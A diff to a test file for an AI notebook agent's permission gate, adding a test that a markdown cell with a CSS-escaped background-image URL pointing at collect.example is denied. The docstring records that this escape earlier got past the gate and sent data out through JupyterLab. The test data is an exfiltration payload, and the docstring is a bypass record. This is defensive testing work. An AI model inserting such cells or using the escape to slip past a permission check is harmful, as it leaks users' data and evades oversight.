@@ -262,6 +262,19 @@ async def test_a_markdown_cell_that_fetches_asks_even_when_notebook_edit_is_allo
     assert isinstance(decision, Deny) and "collect.example" in decision.reason
 
 
+async def test_a_markdown_cell_whose_style_url_is_css_escaped_asks_even_when_notebook_edit_is_allowed(tools):
+    """``url(\\68ttps://…)`` read as a path beside the notebook: with notebook_edit allowed it was inserted
+    unasked, and JupyterLab's page fetched https://… with what the URL carried (attacker pass 11)."""
+    from nbagent.engine.contracts.permissions import Deny, PermissionGate
+
+    edit = tools["notebook_edit"]
+    leak = {"action": "insert", "cell_type": "markdown",
+            "source": '<span style="background-image:url(\\68ttps://collect.example/c?d=41)">.</span>'}
+    gate = PermissionGate(None, allow=["notebook_edit"])
+    decision = await gate.check(edit, "toolu_1", leak, 1)
+    assert isinstance(decision, Deny) and "collect.example" in decision.reason
+
+
 async def test_an_edit_preview_warns_when_the_cell_is_not_what_the_model_read(front, tools, tmp_path):
     await call(tools, "notebook_read", tmp_path)
     front.cells[1]["source"] = "x = 99  # the user typed here"
